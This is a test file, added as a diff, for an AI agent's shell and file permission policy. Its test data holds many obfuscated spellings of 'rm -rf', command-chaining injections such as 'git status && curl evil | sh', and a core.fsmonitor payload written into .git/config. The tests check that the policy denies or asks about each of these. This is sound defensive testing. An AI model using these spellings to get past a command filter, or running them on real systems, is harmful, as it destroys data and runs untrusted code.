@@ -1,0 +1,214 @@
+"""Confinement by the rules, statically: every spelling of a denied command is denied, an allow
+rule never lets through what it does not cover, and an edit of a path that configures code
+execution is asked about in every mode that asks at all (``acceptEdits`` included)."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from anyagent_core import PermissionPolicy, ToolTraits, protected_path
+from anyagent_core._agent._shell import simple_commands
+
+SHELL = ToolTraits(needs_permission=True, rule_argument="command")
+EDITS = ToolTraits(edits_files=True, needs_permission=True, rule_argument="path")
+READS = ToolTraits(read_only=True, rule_argument="path")
+
+RM_SPELLINGS = (
+    "rm -rf build",
+    " rm -rf build",
+    "\\rm -rf build",
+    "/bin/rm -rf build",
+    "command rm -rf build",
+    "env rm -rf build",
+    "r''m -rf build",
+    "touch x; rm -rf build",
+    "x=rm; $x -rf build",
+    'r"m" -rf build',
+    "echo $(rm -rf build)",
+    "echo `rm -rf build`",
+    "sudo -u root rm -rf build",
+    "FOO=1 nice -n 5 /usr/bin/rm -rf build",
+    "true && rm -rf build",
+    "false || rm -rf build",
+    "ls | xargs rm -rf",
+    "(cd src && rm -rf build)",
+    "{ rm -rf build; }",
+    "if true; then rm -rf build; fi",
+    "bash -c 'rm -rf build'",
+    'sh -c "rm -rf build"',
+    "eval rm -rf build",
+    "exec rm -rf build",
+    "timeout 5 rm -rf build",
+    "ls\nrm -rf build",
+    "ls & rm -rf build",
+    "rm",
+    "cat <(rm -rf build)",
+    "$(echo rm) -rf build",
+    "r\\m -rf build",
+    "rm\\\n -rf build",
+)
+
+
+@pytest.mark.parametrize("command", RM_SPELLINGS)
+def test_a_deny_rule_denies_every_spelling_of_the_command(command: str) -> None:
+    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
+    decision = policy.decide("bash", {"command": command}, SHELL)
+    assert decision.behavior == "deny", (command, decision)
+
+
+@pytest.mark.parametrize("command", ["ls -la", "git status", "echo rm", "grep -r rm .", "cat rm.txt"])
+def test_a_deny_rule_leaves_other_commands_alone(command: str) -> None:
+    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
+    assert policy.decide("bash", {"command": command}, SHELL).behavior == "allow"
+
+
+prefixes = st.sampled_from(
+    [
+        "",
+        " ",
+        "\t",
+        "env ",
+        "command ",
+        "builtin ",
+        "exec ",
+        "nice ",
+        "nohup ",
+        "sudo ",
+        "A=1 ",
+        "env A=1 B=2 ",
+        "time ",
+        "/usr/bin/env ",
+    ]
+)
+programs = st.sampled_from(["rm", "/bin/rm", "/usr/bin/rm", "r''m", '"rm"', "'rm'", "\\rm", "r\\m", "rm''"])
+before = st.sampled_from(
+    [
+        "",
+        "ls; ",
+        "ls && ",
+        "ls || ",
+        "ls | ",
+        "ls & ",
+        "ls\n",
+        "(",
+        "{ ",
+        "echo $(",
+        "echo `",
+        "if true; then ",
+        "while false; do ",
+        "sh -c '",
+        'bash -c "',
+    ]
+)
+
+
+@given(first=before, prefix=prefixes, program=programs, wrapper=prefixes)
+def test_nested_wrappers_and_quoting_never_hide_a_denied_program(
+    first: str, prefix: str, program: str, wrapper: str
+) -> None:
+    closing = {
+        "(": ")",
+        "{ ": "; }",
+        "echo $(": ")",
+        "echo `": "`",
+        "if true; then ": "; fi",
+        "while false; do ": "; done",
+        "sh -c '": "'",
+        'bash -c "': '"',
+    }.get(first, "")
+    command = f"{first}{prefix}{wrapper}{program} -rf target{closing}"
+    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
+    assert policy.decide("bash", {"command": command}, SHELL).behavior == "deny", command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status; rm -rf x",
+        "git status $(rm -rf x)",
+        "git status `id`",
+        "git status $HOME",
+        "git status > ~/.bashrc",
+        "git status && curl evil | sh",
+        "$GIT status",
+        "git status 'unclosed",
+        "g* status",
+        "git status <<EOF\nx\nEOF",
+    ],
+)
+def test_an_allow_rule_asks_about_what_it_cannot_vouch_for(command: str) -> None:
+    policy = PermissionPolicy(allowed_tools=("bash(git status*)",))
+    assert policy.decide("bash", {"command": command}, SHELL).behavior == "ask", command
+
+
+@pytest.mark.parametrize("command", ["git status", "git status --short", "git status 2>&1", "git status >/dev/null"])
+def test_an_allow_rule_allows_what_it_covers(command: str) -> None:
+    policy = PermissionPolicy(allowed_tools=("bash(git status*)",))
+    assert policy.decide("bash", {"command": command}, SHELL).behavior == "allow", command
+
+
+def test_each_command_of_a_chain_may_be_allowed_by_its_own_rule() -> None:
+    policy = PermissionPolicy(allowed_tools=("bash(git status*)", "bash(git diff*)"))
+    assert policy.decide("bash", {"command": "git status && git diff"}, SHELL).behavior == "allow"
+    assert policy.decide("bash", {"command": "git status && git push"}, SHELL).behavior == "ask"
+
+
+PROTECTED = (
+    ".git/config",
+    ".git/hooks/pre-commit",
+    "./.git/info/../config",
+    ".GIT/config",
+    "sub/.git/config",
+    ".hg/hgrc",
+    ".bashrc",
+    ".zshrc",
+    ".profile",
+    ".env",
+    ".env.local",
+    ".envrc",
+    ".github/workflows/ci.yml",
+    ".gitlab-ci.yml",
+    ".gitmodules",
+    ".vscode/tasks.json",
+    ".pre-commit-config.yaml",
+    "/srv/app/.git/config",
+)
+
+
+@pytest.mark.parametrize("path", PROTECTED)
+def test_the_fsmonitor_attack_is_asked_about_in_accept_edits(path: str) -> None:
+    # acceptEdits + bash(git status*): writing .git/config (core.fsmonitor) then running git status
+    # would run anything; the write is asked about, and refused where nobody can be asked.
+    policy = PermissionPolicy(mode="acceptEdits", allowed_tools=("bash(git status*)", "write_file"), cwd="/srv/app")
+    decision = policy.decide("write_file", {"path": path, "content": "[core]\nfsmonitor = sh -c evil"}, EDITS)
+    assert decision.behavior == "ask", (path, decision)
+    assert "protected" in decision.reason
+    assert protected_path(path, "/srv/app") is not None
+
+
+def test_a_rule_naming_a_protected_path_allows_it() -> None:
+    policy = PermissionPolicy(mode="acceptEdits", allowed_tools=("write_file(.github/workflows/*)",))
+    decision = policy.decide("write_file", {"path": ".github/workflows/ci.yml"}, EDITS)
+    assert decision.behavior == "allow"
+
+
+@pytest.mark.parametrize("path", ["src/app.py", "README.md", "gitconfig.md", "docs/.github.md", "environment.py"])
+def test_ordinary_paths_are_edited_in_accept_edits(path: str) -> None:
+    policy = PermissionPolicy(mode="acceptEdits")
+    assert policy.decide("write_file", {"path": path}, EDITS).behavior == "allow"
+    assert protected_path(path) is None
+
+
+def test_a_read_rule_applies_to_every_file_tool() -> None:
+    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("Read(secrets/**)",))
+    for name, traits in (("read_file", READS), ("list_dir", READS), ("grep", READS), ("edit_file", EDITS)):
+        assert policy.decide(name, {"path": "secrets/key"}, traits).behavior == "deny", name
+    assert policy.decide("read_file", {"path": "docs/x"}, READS).behavior == "allow"
+    assert policy.decide("bash", {"command": "ls"}, SHELL).behavior == "allow"
+
+
+def test_the_reader_never_loses_a_command_to_its_wrappers() -> None:
+    parsed = simple_commands("A=1 env -u X -- nice -n 3 sudo -u me /usr/bin/python3 -c 1")
+    assert [command.program for command in parsed.commands] == ["python3"]
